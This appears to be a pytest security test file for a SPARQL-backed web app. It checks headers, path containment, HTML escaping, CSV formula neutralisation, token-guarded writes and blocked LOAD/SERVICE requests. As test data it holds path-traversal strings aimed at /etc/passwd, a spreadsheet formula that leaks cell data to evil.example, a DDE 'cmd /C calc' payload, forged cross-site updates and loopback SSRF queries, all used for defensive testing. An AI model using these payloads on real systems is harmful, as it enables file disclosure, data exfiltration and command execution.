"""What every route of the web app owes a hostile client: security headers, no file outside its folder,
names as text, CSV a spreadsheet will not run, and no change of state without the bearer token.

The route walks read the app's ``url_map``, so a route added later is checked
too (and a route with an argument these tests cannot fill makes them fail
until one is given in :data:`ARGUMENTS`).
"""

from __future__ import annotations

import csv
import http.client
import io
import os
import re
import shutil
import time
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

import pytest

from echos_graph.web import create_app

#: A value for each URL argument of the app's routes.
ARGUMENTS = {
    "code": "NO", "key": "hub/NO", "name": "style.css", "suffix": "gexf", "prefix": "NO", "filename": "style.css",
}
#: Per endpoint, arguments that differ from :data:`ARGUMENTS`.
ENDPOINT_ARGUMENTS = {
    "vendor.vendor": {"name": "sigma.min.js"},
    "api.organisation": {"prefix": "NO", "key": "sintef"},
    "pages.ontology": {"name": "index.html"},
    "graph_store.direct": {"name": "graph/evil"},
}
WRITE_METHODS = {"POST", "PUT", "DELETE", "PATCH"}
TOKEN = "correct-horse-battery-staple"
AWKWARD = Path(__file__).resolve().parent / "data" / "cordis-awkward"


def _routes(app) -> list[tuple[str, str, set[str]]]:
    """Return (endpoint, path with its arguments filled, methods) for every route of ``app``."""
    found = []
    for rule in app.url_map.iter_rules():
        values = {**ARGUMENTS, **ENDPOINT_ARGUMENTS.get(rule.endpoint, {})}
        missing = rule.arguments - set(values)
        assert not missing, f"give tests/test_web_security.py a value for {missing} of {rule.rule}"
        path = rule.build({name: values[name] for name in rule.arguments}, append_unknown=False)[1]
        found.append((rule.endpoint, path, set(rule.methods or ())))
    return found


def _check_headers(response, what: str) -> None:
    headers = response.headers
    policy = headers.get("Content-Security-Policy", "")
    directives = {d.split()[0]: d.split()[1:] for d in policy.split(";") if d.strip()}
    scripts = directives.get("script-src", directives.get("default-src"))
    assert scripts == ["'self'"], (what, policy)  # our own files only: no inline script, no eval
    assert directives.get("object-src") == ["'none'"], (what, policy)
    assert headers.get("X-Content-Type-Options") == "nosniff", what
    assert headers.get("Referrer-Policy") == "no-referrer", what
    assert "Set-Cookie" not in headers, what  # no session a forged cross-site request could ride on


@pytest.fixture()
def docs_app(built_dir, tmp_path):
    return create_app({"STORE": str(built_dir), "DOCS_DIR": str(tmp_path / "docs"), "UPDATE_TOKEN": TOKEN})


# -- security headers ------------------------------------------------------------------------------


def test_every_route_and_method_answers_with_the_security_headers(docs_app) -> None:
    client = docs_app.test_client()
    seen: dict[str, set[int]] = {}
    for endpoint, path, methods in _routes(docs_app):
        for method in sorted(methods):
            response = client.open(path, method=method)
            _check_headers(response, f"{method} {path} -> {response.status_code}")
            seen.setdefault(endpoint, set()).add(response.status_code)
    assert 200 in seen["static"] and 200 in seen["pages.home"] and 200 in seen["sparql.endpoint"]
    assert {"vendor.vendor", "network.data", "api.summary", "linked.resource", "editor.editor"} <= set(seen)


@pytest.mark.parametrize("path, status", [
    ("/nowhere", 404), ("/api/nowhere", 404), ("/sparql?query=SELEC", 400), ("/vendor/nothing.js", 404),
    ("/static/nothing.css", 404), ("/id/organisation/XX/nobody", 404), ("/hub/%3Cb%3E", 404),
])
def test_error_answers_carry_the_security_headers(client, path, status) -> None:
    response = client.get(path)
    assert response.status_code == status
    _check_headers(response, path)


def test_a_method_the_route_does_not_take_is_a_405_with_the_security_headers(client) -> None:
    response = client.delete("/")
    assert response.status_code == 405
    _check_headers(response, "DELETE /")


def test_an_unexpected_error_is_a_500_page_with_the_security_headers(built_dir, tmp_path) -> None:
    app = create_app({"STORE": str(built_dir), "DOCS_DIR": str(tmp_path / "docs")})

    def broken() -> str:
        raise RuntimeError("a bug")

    app.add_url_rule("/broken", "broken", broken)
    response = app.test_client().get("/broken")
    assert response.status_code == 500
    assert "a bug" not in response.get_data(as_text=True)  # no traceback or message of ours leaks
    _check_headers(response, "/broken")


def test_served_static_files_and_errors_carry_the_security_headers(served: str) -> None:
    host, port = urllib.parse.urlsplit(served).netloc.split(":")
    for path in ("/static/style.css", "/nowhere", "/sparql?query=ASK%7B%7D"):
        conn = http.client.HTTPConnection(host, int(port), timeout=30)
        conn.request("GET", path)
        response = conn.getresponse()
        response.read()
        conn.close()
        headers = {k: v for k, v in response.getheaders()}
        assert "default-src 'self'" in headers["Content-Security-Policy"], path
        assert headers["X-Content-Type-Options"] == "nosniff", path
        assert headers["Referrer-Policy"] == "no-referrer", path


# -- no file outside its folder --------------------------------------------------------------------

#: Requests that try to leave /static (whose parent holds the app's __init__.py) or to read /etc/passwd.
TRAVERSALS = [
    "/static/../__init__.py", "/static/%2e%2e/__init__.py", "/static/..%2f__init__.py",
    "/static/%2e%2e%2f__init__.py", "/static/%2E%2E%2F__init__.py", "/static/....//__init__.py",
    "/static/..%5c__init__.py", "/static/..\\__init__.py", "/static/%252e%252e/__init__.py",
    "/static/" + "../" * 12 + "etc/passwd", "/static/" + "%2e%2e%2f" * 12 + "etc/passwd",
    "/static//etc/passwd", "/static/%2fetc%2fpasswd", "/static/style.css%00/../../__init__.py",
    "/vendor/..%2f..%2fpackage.json", "/vendor/%2e%2e%2fpackage.json", "/vendor//etc/passwd",
    "/vendor/" + "..%2f" * 12 + "etc%2fpasswd",
]
SECRETS = (b"def create_app", b"root:x:0", b'"name": "echos-graph"')


def _leaks(body: bytes) -> bool:
    return any(secret in body for secret in SECRETS)


@pytest.mark.parametrize("path", TRAVERSALS)
def test_a_path_out_of_the_static_and_vendor_folders_is_refused(client, path) -> None:
    response = client.get(path)
    assert response.status_code != 200 and not _leaks(response.data), path
    if 300 <= response.status_code < 400:  # the router tidies '//': it must stay in its folder
        location = urllib.parse.urlsplit(response.headers["Location"]).path
        assert location.startswith(path[:8]) and ".." not in location, location
        assert client.get(location).status_code == 404


def test_a_path_out_of_the_ontology_folder_is_refused(app) -> None:
    client = app.test_client()
    assert client.get("/ontology").status_code == 200  # writes the documentation into DOCS_DIR
    docs = Path(app.config["DOCS_DIR"])
    outside = Path(__file__).resolve().parent.parent / "src" / "echos_graph" / "web" / "templates" / "base.html"
    relative = os.path.relpath(outside, docs)
    for path in (relative, urllib.parse.quote(relative, safe=""), relative.replace("..", "%2e%2e"),
                 "/" + str(outside).lstrip("/"), urllib.parse.quote(str(outside), safe="")):
        response = client.get("/ontology/" + path)
        assert response.status_code != 200 and b"{% block" not in response.data, path


@pytest.mark.parametrize("path", [p for p in TRAVERSALS if "\\" not in p])
def test_served_paths_out_of_their_folders_are_refused_as_sent(served: str, path: str) -> None:
    """The same requests sent as raw bytes to the production server, which does not tidy them first."""
    host, port = urllib.parse.urlsplit(served).netloc.split(":")
    conn = http.client.HTTPConnection(host, int(port), timeout=30)
    conn.putrequest("GET", path, skip_accept_encoding=True)
    conn.endheaders()
    response = conn.getresponse()
    body = response.read()
    conn.close()
    assert response.status != 200 and not _leaks(body), (path, response.status)


# -- names are text, and CSV for spreadsheets holds no formula ---------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


@pytest.fixture()
def formula_client(store_copy, tmp_path):
    """A client over a store where CORDIS organisations are named like a spreadsheet formula."""
    from echos_graph.ingest import ingest_source

    folder = tmp_path / "cordis"
    shutil.copytree(AWKWARD, folder)
    orgs = folder / "organization.csv"
    text = orgs.read_text(encoding="utf-8-sig")
    assert "Synthetic University 00001" in text and "Synthetic Research Institute 00002" in text
    text = text.replace("Synthetic University 00001", FORMULA.replace('"', '""'))
    text = text.replace("Synthetic Research Institute 00002", "@SUM(1+9)*cmd|' /C calc'!A0")
    orgs.write_text(text, encoding="utf-8")
    ingest_source(store_copy, "cordis", str(folder))
    app = create_app({"TESTING": True, "STORE": str(store_copy.path), "DOCS_DIR": str(tmp_path / "docs")})
    return app.test_client()


def test_csv_exports_neutralise_cells_a_spreadsheet_would_run_as_formulas(formula_client) -> None:
    labels = {n["label"] for n in formula_client.get("/network/data.json").get_json()["nodes"]}
    assert FORMULA in labels  # the data keeps the name as it is
    nodes = list(csv.DictReader(io.StringIO(formula_client.get("/network/export.nodes.csv").data.decode())))
    written = {row["label"] for row in nodes}
    assert "'" + FORMULA in written and FORMULA not in written
    assert "'@SUM(1+9)*cmd|' /C calc'!A0" in written
    for row in nodes:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            assert not cell.startswith("-") or column in ("x", "y"), (column, cell)  # negative coordinates
    ties = formula_client.get("/network/export.edges.csv").data.decode()
    assert "'" + FORMULA.replace('"', '""') in ties


def test_sparql_csv_results_stay_standard_with_a_formula_like_name(formula_client) -> None:
    query = 'SELECT ?name WHERE { ?o <http://www.w3.org/2004/02/skos/core#prefLabel> ?name FILTER(STRSTARTS(?name, "=")) }'
    response = formula_client.get("/sparql", query_string={"query": query}, headers={"Accept": "text/csv"})
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert [FORMULA] in rows  # SPARQL 1.1 CSV results: the value as it is, for programs


def test_markup_in_names_is_escaped_on_every_html_page(store_copy, tmp_path) -> None:
    from test_pages import EVIL, _ingest_evil

    _ingest_evil(store_copy, tmp_path)
    app = create_app({"TESTING": True, "STORE": store_copy.location, "DOCS_DIR": str(tmp_path / "docs")})
    client = app.test_client()
    org = "/id/organisation/NO/script-alert-1-script-ltd"
    pages = [path for endpoint, path, methods in _routes(app) if "GET" in methods and endpoint not in
             ("static", "vendor.vendor", "sparql.endpoint", "pages.ontology") and not endpoint.startswith(
                 ("graph_store.", "api."))]
    pages += [org, "/id/country/NO", "/id/sector/PAT", "/organisations?q=alert", "/organisations?country=NO",
              "/query?query=" + urllib.parse.quote(EVIL)]
    shown = 0
    for path in pages:
        response = client.get(path)
        if response.mimetype != "text/html":
            continue
        page = response.get_data(as_text=True)
        assert "<script>" not in page and not re.search(r"<script(?![^>]*\bsrc=)", page), path  # no inline script
        shown += "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert shown >= 5  # the name is on the organisation, hub, country, sector and list pages, as text


# -- no change of state without the token, from any site -------------------------------------------


def test_only_the_endpoint_and_the_graph_store_take_a_state_changing_method(docs_app) -> None:
    takes = {(endpoint, method) for endpoint, _, methods in _routes(docs_app) for method in methods & WRITE_METHODS}
    assert {endpoint for endpoint, _ in takes} == {"sparql.endpoint", "graph_store.indirect", "graph_store.direct"}, takes


def test_no_route_changes_state_without_the_bearer_token(store_copy, tmp_path) -> None:
    """Requests as another site's form or script would send them: no Authorization header, a foreign Origin."""
    app = create_app({"STORE": store_copy.location, "DOCS_DIR": str(tmp_path / "docs"), "UPDATE_TOKEN": TOKEN})
    client = app.test_client()

    def quads() -> int:
        answer = client.get("/sparql", query_string={"query": "SELECT (COUNT(*) AS ?n) WHERE { GRAPH ?g { ?s ?p ?o } }"})
        return int(answer.get_json()["results"]["bindings"][0]["n"]["value"])

    before = quads()
    update = "INSERT DATA { GRAPH <https://evil.example/g> { <https://evil.example/a> <https://evil.example/b> 1 } }"
    turtle = "<https://evil.example/a> <https://evil.example/b> 1 ."
    foreign = {"Origin": "https://evil.example", "Referer": "https://evil.example/form.html"}
    tried = 0
    for endpoint, path, methods in _routes(app):
        if endpoint == "graph_store.indirect":
            path += "?graph=" + urllib.parse.quote("https://evil.example/g", safe="")
        for method in sorted(methods & WRITE_METHODS):
            for content_type, body in (("application/x-www-form-urlencoded", urllib.parse.urlencode({"update": update})),
                                       ("text/plain", f"update={update}"), ("application/sparql-update", update),
                                       ("text/turtle", turtle), ("multipart/form-data; boundary=x",
                                        f'--x\r\nContent-Disposition: form-data; name="update"\r\n\r\n{update}\r\n--x--\r\n')):
                response = client.open(path, method=method, data=body, headers={**foreign, "Content-Type": content_type})
                tried += 1
                assert response.status_code in (400, 401, 403, 405, 415), (method, path, content_type, response.status_code)
                if response.status_code in (401, 403):  # seen as a write: no script of another site reads the answer
                    assert "Access-Control-Allow-Origin" not in response.headers, (method, path, content_type)
    assert tried >= 35
    assert quads() == before > 0


# -- the engine's HTTP client stays unused ---------------------------------------------------------


@pytest.mark.parametrize("update", [
    "LOAD <http://127.0.0.1:{port}/data.ttl>", "LOAD SILENT <http://127.0.0.1:{port}/x> INTO GRAPH <https://e.example/g>",
    "lo\\u0061d <http://127.0.0.1:{port}/data.ttl>",
    "INSERT {{ ?s ?p ?o }} WHERE {{ SERVICE <http://127.0.0.1:{port}/sparql> {{ ?s ?p ?o }} }}",
])
def test_load_and_service_to_a_loopback_port_send_no_request_even_with_the_token(store_copy, tmp_path, update,
                                                                                loopback_listener) -> None:
    app = create_app({"STORE": store_copy.location, "DOCS_DIR": str(tmp_path / "docs"), "UPDATE_TOKEN": TOKEN})
    response = app.test_client().post("/sparql", data={"update": update.format(port=loopback_listener.port)},
                                      headers={"Authorization": f"Bearer {TOKEN}"})
    assert loopback_listener.close() == []
    assert response.status_code == 400 and "is refused" in response.get_data(as_text=True)


# -- a runaway property path -----------------------------------------------------------------------

PATH_RUNAWAY = ("SELECT (COUNT(*) AS ?n) WHERE { ?a (<https://e.example/p>|!<https://e.example/p>)* ?b . "
                "?b (<https://e.example/p>|!<https://e.example/p>)* ?c }")


def test_served_unbounded_property_path_is_stopped_at_the_timeout(built_dir, tmp_path) -> None:
    """Every node to every node, twice over: the worker gives up at the 2 s timeout and the next query is answered."""
    from conftest import _serve

    proc, url = _serve(built_dir, tmp_path / "server.log", "--workers", "2", "--query-timeout", "2")
    try:
        started = time.monotonic()
        try:
            with urllib.request.urlopen(url + "/sparql?" + urllib.parse.urlencode({"query": PATH_RUNAWAY}),
                                        timeout=60) as response:
                status, text = response.status, response.read().decode()
        except urllib.error.HTTPError as exc:
            status, text = exc.code, exc.read().decode()
        took = time.monotonic() - started
        assert status == 503 and "was stopped" in text, (status, text[:200])
        assert took < 30
        with urllib.request.urlopen(url + "/sparql?query=ASK%7B%7D", timeout=60) as response:
            assert response.status == 200
    finally:
        proc.terminate()
        proc.wait(timeout=20)
